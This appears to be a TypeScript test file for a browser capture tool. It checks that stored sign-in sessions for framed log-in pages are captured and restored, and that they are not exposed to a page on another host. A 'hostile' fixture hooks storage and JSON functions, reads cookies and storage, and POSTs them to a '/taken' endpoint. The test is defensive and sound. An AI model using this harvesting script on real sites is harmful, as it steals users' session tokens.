import { expect } from "chai";
import type { BrowserSession, SignInOrder } from "#activities/ports.ts";
import type { Step } from "#schemas/options/steps.ts";
import { failure, useBrowser } from "./support.ts";

const value = "CANARY-token-of-the-visitor";

/** A page that keeps what is typed in both storages, and then shows and tells that its visitor is signed in. */
const logIn = `<input id=name><button onclick="keep()">Go</button><p id=state></p><script>
  function keep() {
    const token = document.getElementById("name").value;
    localStorage.setItem("token", token);
    sessionStorage.setItem("token", token);
    tell();
  }
  function tell() {
    const isIn = [localStorage, sessionStorage].every((storage) => storage.getItem("token") === ${JSON.stringify(value)});
    document.getElementById("state").textContent = isIn ? "Welcome" : "Log in";
    parent.postMessage(isIn ? "in" : "out", "*");
  }
  tell();
</script>`;

/** A page around the log-in that shows what the frame tells. */
const around = (address: string) =>
  `<p id=told></p><script>onmessage = ({ data }) => { told.textContent = data === "in" ? "Sign out" : "Guest" }</script>
  <iframe src="${address}"></iframe>`;

describe("capture: sessions of sign-ins", () => {
  const browser = useBrowser();
  const steps = (frame?: string): Step[] => [
    { fill: { target: "#name", value, ...(frame !== undefined && { frame }) } },
    { click: { target: "button", ...(frame !== undefined && { frame }) } },
  ];
  const orderOf = (text: string, session: BrowserSession | null): SignInOrder => ({
    signedIn: { text },
    session,
    totp: null,
  });

  async function signIn(url: string, text: string, frame?: string): Promise<BrowserSession> {
    const { session } = await browser.capture({ url }, { steps: steps(frame), signIn: orderOf(text, null) });
    if (session === undefined) throw new Error("The capture returned no session.");
    return session;
  }

  for (const host of ["site.test", "other.test"]) {
    it(`have the storages of a log-in in a frame of ${host}, and give them back to that frame`, async () => {
      browser.site.page("/log-in", logIn);
      const url = browser.site.page("/around", around(browser.site.url("/log-in", host)));
      const signedOut = browser.capture({ url }, { signIn: orderOf("Sign out", { cookies: [], storages: [] }) });
      expect((await failure(signedOut)).code).to.equal("signed_out");
      const session = await signIn(url, "Sign out", "iframe");
      const { origin } = new URL(browser.site.url("/", host));
      expect(session.storages).to.deep.include({
        origin,
        local: [["token", value]],
        session: [["token", value]],
      });
      const captured = await browser.capture({ url, timeout: 10 }, { signIn: orderOf("Sign out", session) });
      expect(captured.page.statusCode).to.equal(200);
    });
  }

  /** A page that tells its host all that it can read, and tries the functions by which a storage or a value is written. */
  const hostile = (address: string) => `<title>hostile</title><p>Sign out</p><p id=sent></p><script>
    const seen = [];
    const { setItem } = Storage.prototype;
    Storage.prototype.setItem = function (key, item) { seen.push(key, item); return setItem.call(this, key, item); };
    for (const name of ["parse", "stringify"]) {
      const original = JSON[name];
      JSON[name] = (text, ...rest) => { seen.push(String(text)); return original(text, ...rest); };
    }
    const { find } = Array.prototype;
    Array.prototype.find = function (...given) {
      for (const one of this) seen.push(...Object.values(Object(one)).flat(2).map(String));
      return find.apply(this, given);
    };
    addEventListener("storage", ({ newValue }) => seen.push(newValue));
    const frame = document.createElement("iframe");
    frame.src = ${JSON.stringify(address)};
    frame.onload = () => {
      try { seen.push(Object.entries(frame.contentWindow.localStorage).join()) } catch (error) { seen.push(error.name) }
      seen.push(Object.entries(localStorage).join(), Object.entries(sessionStorage).join(), document.cookie);
      seen.push(...Object.getOwnPropertyNames(window));
      fetch("/taken", { method: "POST", body: seen.join("|") }).then(() => { sent.textContent = "All sent" });
    };
    addEventListener("DOMContentLoaded", () => document.body.append(frame));
  </script>`;

  it("never reach a page of another host, which can't read the frame of their own host either", async () => {
    const own = browser.site.page("/log-in", logIn, { headers: { "set-cookie": `id=${value}; Path=/` } });
    const session = await signIn(own, "Welcome");
    expect(JSON.stringify(session)).to.include(value);
    const sent: string[] = [];
    browser.site.route("/taken", (request, response) => {
      sent.push(request.url ?? "", request.headers.cookie ?? "");
      request.on("data", (part: Buffer) => sent.push(part.toString()));
      request.on("end", () => response.end());
    });
    browser.site.page("/hostile", hostile(own));
    const url = browser.site.url("/hostile", "other.test");
    const { page } = await browser.capture(
      { url },
      { steps: [{ waitFor: { text: "All sent" } }], signIn: orderOf("Sign out", session) },
    );
    expect(page.title).to.equal("hostile");
    expect(sent.join(" ")).to.include("SecurityError").and.not.include(value);
    const received = browser.site.received("/hostile");
    expect(JSON.stringify(received)).to.not.include(value);
  });
});
